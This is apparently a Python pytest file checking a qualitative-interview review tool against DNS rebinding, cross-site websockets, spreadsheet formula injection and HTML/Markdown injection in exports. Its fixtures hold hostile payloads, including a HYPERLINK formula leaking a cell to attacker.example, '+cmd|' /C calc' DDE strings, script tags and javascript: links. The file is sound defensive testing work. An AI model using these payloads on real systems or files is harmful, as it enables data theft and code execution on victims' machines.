"""Attacks from issue 12, each reproduced against the real components, with the safe outcome
asserted: a foreign Host/Origin (DNS rebinding, cross-site websockets) against a real
Streamlit server; `streamlit run app.py` without an address; spreadsheet formulas in
transcripts and metadata; HTML and links in quoted material in summary.md/summary.html.
All network traffic goes to 127.0.0.1 only."""

from __future__ import annotations

import base64
import contextlib
import csv
import http.client
import ipaddress
import os
import re
import socket
import subprocess
import sys
import time
import urllib.request
import zipfile
from html.parser import HTMLParser
from pathlib import Path

import pytest

from conftest import REPO, build_store, free_port, serve_review, stop_process
from qual import access, netguard

CHROMIUM = "/usr/bin/chromium"
# evil.example resolves to this machine (a DNS-rebinding attacker's name); every other name
# fails, so the browser reaches nothing but 127.0.0.1.
BROWSER_ARGS = ["--no-sandbox", "--disable-gpu", "--disable-background-networking",
                "--disable-component-update", "--disable-sync", "--no-first-run",
                "--host-resolver-rules=MAP evil.example 127.0.0.1, MAP * ~NOTFOUND, EXCLUDE 127.0.0.1"]
FAST = {"n": 2 ** 10, "r": 8, "p": 1}
ENV = {**os.environ, "PYTHONPATH": str(REPO)}


# -- raw HTTP against a real server ------------------------------------------------------------
def _get(port: int, path: str, host: str, origin: str | None = None,
         method: str = "GET") -> int:
    conn = http.client.HTTPConnection("127.0.0.1", port, timeout=10)
    try:
        conn.putrequest(method, path, skip_host=True, skip_accept_encoding=True)
        conn.putheader("Host", host)
        if origin is not None:
            conn.putheader("Origin", origin)
        conn.endheaders()
        r = conn.getresponse()
        r.read()
        return r.status
    finally:
        conn.close()


def _upgrade(port: int, host: str, origin: str | None) -> bytes:
    """The status line the server answers a websocket handshake on /_stcore/stream with."""
    key = base64.b64encode(os.urandom(16)).decode()
    lines = ["GET /_stcore/stream HTTP/1.1", f"Host: {host}", "Upgrade: websocket",
             "Connection: Upgrade", f"Sec-WebSocket-Key: {key}", "Sec-WebSocket-Version: 13",
             "Sec-WebSocket-Protocol: streamlit"]
    if origin is not None:
        lines.append(f"Origin: {origin}")
    with socket.create_connection(("127.0.0.1", port), timeout=10) as s:
        s.sendall(("\r\n".join(lines) + "\r\n\r\n").encode())
        data = b""
        while b"\r\n" not in data:
            chunk = s.recv(1024)
            if not chunk:
                break
            data += chunk
    return data.split(b"\r\n", 1)[0]


ROUTES = ["/", "/_stcore/health", "/_stcore/host-config", "/static/js/none.js",
          "/media/0123456789abcdef.csv", "/_stcore/upload_file/x/y", "/component/x/index.html",
          "/app/static/x.png"]


def test_dns_rebinding_and_foreign_origins_are_refused_on_loopback(coded_store, tmp_path):
    """`qual review` on 127.0.0.1: a request for `evil.example:PORT` (DNS rebinding) or from
    a page on another origin gets 403 on every route, and the websocket is refused."""
    with serve_review(coded_store.path, tmp_path, env=ENV) as (url, _proc, log_path):
        port = int(url.rsplit(":", 1)[1])
        me = f"127.0.0.1:{port}"
        assert _get(port, "/", me) == 200
        assert _get(port, "/", f"localhost:{port}", f"http://localhost:{port}") == 200
        assert _get(port, "/", f"[::1]:{port}") == 200
        for path in ROUTES:
            assert _get(port, path, f"evil.example:{port}") == 403, path
            assert _get(port, path, f"evil.example:{port}", f"http://evil.example:{port}") \
                == 403, path
            assert _get(port, path, me, f"http://evil.example:{port}") == 403, path
        assert _get(port, "/_stcore/upload_file/x/y", f"evil.example:{port}",
                    method="PUT") == 403
        for bad in ("null", "file://", f"http://127.0.0.1.evil.example:{port}"):
            assert _get(port, "/", me, bad) == 403, bad
        # A host name this machine does not listen on, even one that looks like an IP
        assert _get(port, "/", f"127.0.0.1.nip.io:{port}") == 403
        assert _get(port, "/", f"10.1.2.3:{port}") == 403          # bound to loopback only
        # The websocket: the same-origin handshake works; forged ones are refused
        assert b" 101 " in _upgrade(port, me, f"http://{me}")
        assert b" 403 " in _upgrade(port, f"evil.example:{port}", f"http://evil.example:{port}")
        assert b" 403 " in _upgrade(port, f"evil.example:{port}", None)
        assert b" 403 " in _upgrade(port, me, "http://evil.example")     # cross-site websocket
        assert b" 403 " in _upgrade(port, me, "null")
    log = log_path.read_text()
    assert "qual: refused a websocket request for /_stcore/stream" in log
    assert "qual: refused a http request for /_stcore/health" in log


def test_on_all_interfaces_ip_addresses_and_the_host_name_work_other_names_do_not(
        coded_store, tmp_path):
    f = tmp_path / "team.toml"
    access.add_reviewer(f, "ann", "a-long-password", params=FAST)
    with serve_review(coded_store.path, tmp_path, "--address", "0.0.0.0", "--access", str(f),
                      "--allow-host", "review.example.org", "--allow-host", "*.corp.example",
                      env=ENV) as (url, _proc, _log):
        port = int(url.rsplit(":", 1)[1])
        assert _get(port, "/", f"10.1.2.3:{port}") == 200          # an IP cannot be rebound
        assert _get(port, "/", f"{socket.gethostname()}:{port}") == 200
        assert _get(port, "/", f"review.example.org:{port}") == 200
        assert _get(port, "/", f"qual.corp.example:{port}") == 200
        assert _get(port, "/", "review.example.org", "https://review.example.org") == 200
        assert _get(port, "/", f"corp.example:{port}") == 403
        assert _get(port, "/", f"evil.example:{port}") == 403
        assert b" 403 " in _upgrade(port, f"evil.example:{port}", f"http://evil.example:{port}")
        assert b" 101 " in _upgrade(port, f"review.example.org:{port}",
                                    f"http://review.example.org:{port}")


def test_review_refuses_a_malformed_allowed_host(coded_store):
    r = subprocess.run([sys.executable, "-m", "qual", "review", "--db", str(coded_store.path),
                        "--port", str(free_port()), "--allow-host", "evil.example/x"],
                       cwd=REPO, env=ENV, capture_output=True, text=True, timeout=60)
    assert r.returncode == 2 and "--allow-host" in r.stderr and "not a host name" in r.stderr


def test_the_host_rule():
    ok, no = netguard.host_allowed, lambda *a: not netguard.host_allowed(*a)
    h = netguard.split_host
    assert ok(h("localhost:8501"), "127.0.0.1") and ok(h("[::1]:1"), "127.0.0.1")
    assert ok(h("LOCALHOST."), "127.0.0.1") and ok(h("127.0.0.2"), "127.0.0.1")
    assert no(h("evil.example:8501"), "127.0.0.1") and no(h("192.168.1.5"), "127.0.0.1")
    assert no(h("evil.example"), "") and ok(h("192.168.1.5:80"), "")     # unset: all interfaces
    assert ok(h("192.168.1.5"), "192.168.1.5") and no(h("192.168.1.6"), "192.168.1.5")
    assert ok(h("x.corp.example"), "0.0.0.0", ["*.corp.example"])
    assert no(h("corp.example"), "0.0.0.0", ["*.corp.example"])
    assert no(h("evil.example"), "0.0.0.0", ["*"])                      # no catch-all
    for bad in ("", "a b", "user@localhost", "localhost/x", "localhost:port", "%2e"):
        assert h(bad) is None, bad
    assert netguard.refusal([("Host", "localhost"), ("Host", "localhost")], "127.0.0.1")
    assert netguard.refusal([], "127.0.0.1")
    assert netguard.refusal([("host", "localhost"), ("origin", "null")], "127.0.0.1")
    assert netguard.refusal([("host", "localhost"), ("origin", "http://localhost:3000")],
                            "127.0.0.1") is None


# -- `streamlit run app.py`, as the README used to suggest ---------------------------------------
def _listening(port: int) -> set:
    """The local addresses of the sockets listening on ``port`` (from /proc/net/tcp{,6})."""
    found = set()
    for name in ("tcp", "tcp6"):
        for line in Path(f"/proc/net/{name}").read_text().splitlines()[1:]:
            local, state = line.split()[1], line.split()[3]
            addr, p = local.split(":")
            if state != "0A" or int(p, 16) != port:
                continue
            raw = bytes.fromhex(addr)
            raw = b"".join(raw[i:i + 4][::-1] for i in range(0, len(raw), 4))
            found.add(ipaddress.ip_address(raw))
    return found


@contextlib.contextmanager
def _streamlit_run(db, app, home, *extra):
    """``QUAL_DB=db streamlit run APP`` with no address option, started in an empty folder."""
    port = free_port()
    env = {**ENV, "QUAL_DB": str(db), "HOME": str(home)}
    env.pop(access.ENV_VAR, None)
    cwd = home / "cwd"
    cwd.mkdir(exist_ok=True)
    log = open(home / "streamlit.log", "w")
    proc = subprocess.Popen([sys.executable, "-m", "streamlit", "run", str(app),
                             "--server.port", str(port), *extra], cwd=cwd, env=env,
                            stdout=log, stderr=subprocess.STDOUT)
    try:
        deadline = time.time() + 60
        while True:
            try:
                with urllib.request.urlopen(f"http://127.0.0.1:{port}/_stcore/health",
                                            timeout=1) as r:
                    if r.read().strip() == b"ok":
                        break
            except OSError:
                pass
            if proc.poll() is not None or time.time() > deadline:
                raise AssertionError("streamlit did not start: "
                                     + (home / "streamlit.log").read_text()[-2000:])
            time.sleep(0.2)
        yield port
    finally:
        stop_process(proc)
        log.close()


@contextlib.contextmanager
def _browser():
    from playwright.sync_api import sync_playwright

    with sync_playwright() as p:
        browser = p.chromium.launch(executable_path=CHROMIUM, args=BROWSER_ARGS, headless=True)
        try:
            yield browser.new_page(viewport={"width": 1200, "height": 900})
        finally:
            browser.close()


def test_streamlit_run_binds_loopback_and_refuses_a_rebound_name(coded_store, tmp_path):
    """The .streamlit/config.toml beside app.py (Streamlit reads it from the script's folder,
    whatever the working folder) binds 127.0.0.1. A page opened through a rebound name
    (evil.example -> 127.0.0.1) is refused before any segment is shown, although a plain
    `streamlit run` starts without qual's launcher; after that first session every request
    for the foreign name gets 403."""
    from playwright.sync_api import expect

    with _streamlit_run(coded_store.path, REPO / "app.py", tmp_path) as port:
        assert _listening(port) and all(a.is_loopback for a in _listening(port))
        with _browser() as page:
            page.goto(f"http://evil.example:{port}/", wait_until="domcontentloaded")
            expect(page.get_by_text("Refused: this page was not opened at the review app's "
                                    "own address")).to_be_visible(timeout=30_000)
            expect(page.get_by_text("Review queue")).to_have_count(0)
            text = page.inner_text("body")
            first = coded_store.segments()["text"].iloc[0][:40]
            assert first not in text
            assert _get(port, "/", f"evil.example:{port}") == 403
            assert _get(port, "/_stcore/health", f"evil.example:{port}") == 403
            assert b" 403 " in _upgrade(port, f"evil.example:{port}",
                                        f"http://evil.example:{port}")
            # the app's own address still works
            page.goto(f"http://127.0.0.1:{port}/", wait_until="domcontentloaded")
            expect(page.get_by_text("Review queue").first).to_be_visible(timeout=30_000)
            expect(page.get_by_text("Refused")).to_have_count(0)
    assert "usage statistics" not in (tmp_path / "streamlit.log").read_text().lower()


def test_streamlit_run_without_an_address_shows_nothing_without_passwords(coded_store,
                                                                          tmp_path):
    """The app copied to a folder without the config file: Streamlit listens on all
    interfaces; the app treats the unset address as "beyond this machine" and shows nothing
    without passwords."""
    import shutil

    from playwright.sync_api import expect

    copy = tmp_path / "bare" / "app.py"
    copy.parent.mkdir()
    shutil.copy(REPO / "app.py", copy)
    with _streamlit_run(coded_store.path, copy, tmp_path, "--browser.gatherUsageStats",
                        "false", "--logger.hideWelcomeMessage", "true") as port:
        assert not all(a.is_loopback for a in _listening(port))   # Streamlit's default: all
        with _browser() as page:
            page.goto(f"http://127.0.0.1:{port}/", wait_until="domcontentloaded")
            expect(page.get_by_text("without reviewer passwords, so it shows nothing")
                   ).to_be_visible(timeout=30_000)
            expect(page.get_by_text("Review queue")).to_have_count(0)
            assert coded_store.segments()["text"].iloc[0][:40] not in page.inner_text("body")


def test_review_passes_its_settings_and_the_project_config_matches():
    from qual.commands.review import streamlit_command
    import tomllib

    cmd = streamlit_command("qual.db", 8501)
    flags = dict(zip(cmd[cmd.index("run") + 2::2], cmd[cmd.index("run") + 3::2]))
    assert flags["--server.address"] == "127.0.0.1"
    assert flags["--browser.gatherUsageStats"] == "false"
    assert flags["--client.showErrorDetails"] == "none"
    assert "run_streamlit" in cmd[2]                     # started behind qual.netguard
    cfg = tomllib.loads((REPO / ".streamlit" / "config.toml").read_text())
    assert cfg["server"]["address"] == "127.0.0.1"
    assert cfg["browser"]["gatherUsageStats"] is False
    assert cfg["client"]["showErrorDetails"] == "none"
    # the option names are Streamlit's own (1.67): each is a known option
    from streamlit import config

    for key in ("server.address", "browser.gatherUsageStats", "client.showErrorDetails",
                "server.enableCORS", "server.enableXsrfProtection"):
        assert key in config._config_options_template, key


# -- hostile transcripts ------------------------------------------------------------------------
FORMULAS = ['=HYPERLINK("http://attacker.example/?leak="&A1,"click")',
            "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0"]
TXT_NAME = "interview_<img src=x onerror=alert(3)>[d](javascript:alert(3)).txt"
VTT_NAME = "interview_9![b](javascript:alert(5)).vtt"
VTT_SPEAKER = "[Eve](javascript:alert(9))"
MARKUP = ['<img src="http://attacker.example/beacon.png">', "[click me](javascript:alert(1))",
          "![beacon](http://attacker.example/b.png)", "<script>alert(1)</script>",
          '<a href="javascript:alert(2)">more</a>']
CONTENT = [
    "Our legal gateways for data sharing take months to agree, and every approval goes "
    "round the lawyers again before the data sharing agreement is signed.",
    "The datasets lack common identifiers, so record linkage fails and the data quality "
    "and metadata are poor.",
    "Public trust matters here; people worry about data security, and transparency builds "
    "social licence for sharing.",
    "We lack skilled analysts, and senior leaders are risk averse about sharing data at all.",
]


@pytest.fixture(scope="module")
def hostile_store(tmp_path_factory, embedder, codebook, nlp):
    """A real store coded from a transcript and captions whose text, speaker, file names and
    metadata carry spreadsheet formulas, HTML and Markdown links."""
    folder = tmp_path_factory.mktemp("hostile")
    turns = []
    for i, (formula, content) in enumerate(zip(FORMULAS, CONTENT)):
        turns += [f"Interviewer: Tell me about part {i + 1}?", "",
                  f"Respondent: {formula} {content} {MARKUP[i]} {MARKUP[(i + 1) % 5]}", ""]
    (folder / TXT_NAME).write_text("\n".join(turns), encoding="utf-8")
    cues = ["WEBVTT", ""]
    for i, content in enumerate(CONTENT):
        cues += [f"00:00:{2 * i:02d}.000 --> 00:00:{2 * i + 1:02d}.000",
                 f"<v Interviewer>What about part {i + 1}?", "",
                 f"00:01:{2 * i:02d}.000 --> 00:01:{2 * i + 1:02d}.000",
                 f"<v {VTT_SPEAKER}>{FORMULAS[i]} {content} {MARKUP[2]} {MARKUP[1]}", ""]
    (folder / VTT_NAME).write_text("\n".join(cues), encoding="utf-8")
    with open(folder / "metadata.csv", "w", newline="", encoding="utf-8") as f:
        w = csv.writer(f)
        w.writerow(["file", "stakeholder_id", "organisation", "sector", "role", "interviewers",
                    "stakeholder_group", "note"])
        for name, sid in ((TXT_NAME, FORMULAS[0]), (VTT_NAME, "@S2")):
            w.writerow([name, sid, FORMULAS[1], "<img src=http://attacker.example/s.png>",
                        FORMULAS[0], "Interviewer", "[grp](javascript:alert(4))",
                        "\t=1+1"])
    store = build_store(tmp_path_factory.mktemp("hostile-db") / "qual.db", [folder],
                        embedder, codebook, nlp)
    yield store
    store.close()


_FORMULA_ELEMENT = re.compile(rb"<(?:\w+:)?f[\s>/]")


def test_xlsx_from_hostile_text_holds_no_formula(hostile_store, codebook, tmp_path):
    from openpyxl import load_workbook

    from qual.project import export_project

    out, _ = export_project(hostile_store, codebook, "xlsx", tmp_path / "coded.xlsx")
    with zipfile.ZipFile(out) as z:
        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/")]
        xml = {n: z.read(n) for n in sheets}
    assert len(sheets) >= 3
    for name, data in xml.items():
        assert not _FORMULA_ELEMENT.search(data), name
    everything = b"".join(xml.values())
    assert b"=HYPERLINK(" in everything and b"+cmd|" in everything     # kept, as text
    wb = load_workbook(out)
    ws = wb["segments"]
    header = [c.value for c in ws[1]]
    rows = list(ws.iter_rows(min_row=2))
    col = {h: i for i, h in enumerate(header)}
    assert {type(r[col["start"]].value) for r in rows} == {int}            # still numbers
    assert all(isinstance(r[col["score_public"]].value, float) for r in rows)
    assert all(r[col["case_role"]].value == FORMULAS[0] for r in rows)     # the value, intact
    assert all(r[col["case_role"]].data_type == "s" and r[col["case_role"]].quotePrefix
               for r in rows)
    starts = {r[col["text"]].value[:1] for r in rows}
    assert {"=", "+", "-", "@"} <= starts
    for r in rows:
        for c in r:
            if isinstance(c.value, str):
                assert c.data_type == "s"


def _dangerous(cell: str) -> bool:
    return cell[:1] in ("=", "+", "-", "@", "\t", "\r")


def test_csv_exports_from_hostile_text_have_no_live_formula(hostile_store, codebook,
                                                            tmp_path):
    import pandas as pd

    from qual.project import export_project
    from qual.export import restore
    from qual.summarise import summary_from_store, write_summary

    out, _ = export_project(hostile_store, codebook, "csv", tmp_path / "coded.csv")
    (tmp_path / "summary").mkdir()
    written = write_summary(summary_from_store(hostile_store, codebook), codebook,
                            tmp_path / "summary")
    files = [out] + [p for n, p in written.items() if n.endswith(".csv")]
    for path in files:
        with open(path, newline="", encoding="utf-8") as f:
            for row in csv.reader(f):
                bad = [c for c in row if _dangerous(c)]
                assert not bad, (path.name, bad)
    raw = list(csv.DictReader(open(out, newline="", encoding="utf-8")))
    assert {r["case_role"] for r in raw} == {"'" + FORMULAS[0]}
    assert {r["case_note"] for r in raw} == {"'=1+1"}      # (the metadata reader strips the tab)
    assert {restore(r["text"])[:1] for r in raw} >= {"=", "+", "-", "@"}
    table = pd.read_csv(out)
    for c in ("start", "end", "confidence", "score_public", "segment_id"):
        assert pd.api.types.is_numeric_dtype(table[c]), c
    counts = open(written["case_code_counts.csv"], encoding="utf-8").read()
    assert "'=HYPERLINK" in counts or "'@S2" in counts                  # the case ids


def test_topics_csv_is_inert(tmp_path):
    import pandas as pd

    from qual.export import write_topics_csv

    topics = pd.DataFrame([{"topic": 0, "size": 3, "keywords": "=cmd|' /C calc'!A0, data",
                            "theme": "people", "subcode": "", "similarity": 0.5,
                            "emergent": False, "examples": [FORMULAS[3], "plain"]}])
    write_topics_csv(topics, tmp_path / "topics.csv")
    rows = list(csv.reader(open(tmp_path / "topics.csv", newline="")))
    assert rows[1][2].startswith("'=") and rows[1][7].startswith("'@")
    assert rows[1][0] == "0" and rows[1][5] == "0.5"


def test_the_cell_rule():
    from qual.export import inert, restore

    for value in ("\t=1+1", "\r=1+1", "=1", "+1", "-1", "@x", "'x", "''x"):
        assert inert(value) == "'" + value and restore(inert(value)) == value
    for value in ("plain", "", " =1", 3, -2.5, None, True):
        assert inert(value) == value


def test_decisions_csv_is_inert_and_its_round_trip_is_lossless(hostile_store, codebook,
                                                               tmp_path):
    from qual.project import export_decisions, import_decisions
    from qual.review import apply_decision, effective_coding

    ids = effective_coding(hostile_store)["segment_id"].tolist()[:3]
    memos = [FORMULAS[0], "'tis already quoted", "-1 on this coding"]
    for sid, memo in zip(ids, memos):
        apply_decision(hostile_store, int(sid), "ann", "accept", memo=memo)
    path = tmp_path / "review.csv"
    export_decisions(hostile_store, path)
    rows = list(csv.reader(open(path, newline="", encoding="utf-8")))
    for row in rows:
        assert not [c for c in row if _dangerous(c)], row
    by_id = {r[0]: r for r in rows[1:]}
    assert by_id[str(ids[0])][3] == "'" + FORMULAS[0]
    assert by_id[str(ids[1])][3] == "''tis already quoted"
    # imported back by another reviewer: each memo arrives exactly as it was written
    recorded, _, errors = import_decisions(hostile_store, path, "bo", codebook,
                                           accept_unchanged=True)
    assert not errors and recorded == len(rows) - 1
    coding = effective_coding(hostile_store).set_index("segment_id")
    assert [coding.at[i, "memo"] for i in ids] == memos
    assert set(coding["reviewer"]) == {"bo"}
    # and importing by the same reviewer again adds nothing: the memos compare equal
    recorded, skipped, errors = import_decisions(hostile_store, path, "bo", codebook)
    assert (recorded, errors) == (0, []) and skipped == len(rows) - 1


# -- summary.md / summary.html ------------------------------------------------------------------
class _Tags(HTMLParser):
    def __init__(self):
        super().__init__()
        self.tags, self.attrs = [], []

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attrs += [(tag, k, v or "") for k, v in attrs]


def _parse(html: str) -> _Tags:
    p = _Tags()
    p.feed(html)
    return p


def test_summary_md_and_html_escape_quoted_material(hostile_store, codebook, tmp_path):
    from markdown_it import MarkdownIt

    from qual.summarise import parse_markdown_quotes, summary_from_store, write_summary

    written = write_summary(summary_from_store(hostile_store, codebook), codebook, tmp_path)
    md = written["summary.md"].read_text(encoding="utf-8")
    quotes = parse_markdown_quotes(md)
    assert quotes and any("javascript:" in q["text"] or "<img" in q["text"] for q in quotes)
    docs = {d["name"]: d["text"] for d in (hostile_store.document(int(i))
                                           for i in hostile_store.documents()["id"])}
    for q in quotes:                      # each quote, unescaped, is still verbatim
        assert docs[q["document"]][q["start"]:q["end"]] == q["text"]
    assert {q["document"] for q in quotes} <= {TXT_NAME, VTT_NAME}
    assert VTT_SPEAKER in {q["speaker"] for q in quotes} or all(
        q["document"] == TXT_NAME for q in quotes)
    # Rendered as CommonMark with raw HTML allowed (as GitHub and most viewers do):
    rendered = MarkdownIt("commonmark", {"html": True}).render(md)
    p = _parse(rendered)
    assert not {"img", "script", "a", "iframe"} & set(p.tags), set(p.tags)
    assert not [a for a in p.attrs if "javascript:" in a[2] or "attacker" in a[2]]
    assert "&lt;img src=" in rendered and "[click me](javascript:alert(1))" in rendered
    for value in ("[grp](javascript:alert(4))", "&lt;img src=http://attacker.example/s.png&gt;"):
        assert value in rendered, value                  # metadata values shown, as text
    html = written["summary.html"].read_text(encoding="utf-8")
    p = _parse(html)
    assert not {"img", "script", "a", "iframe"} & set(p.tags), set(p.tags)
    assert not [a for a in p.attrs if "javascript:" in a[2] or "attacker" in a[2]]
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html or "&lt;img src=" in html
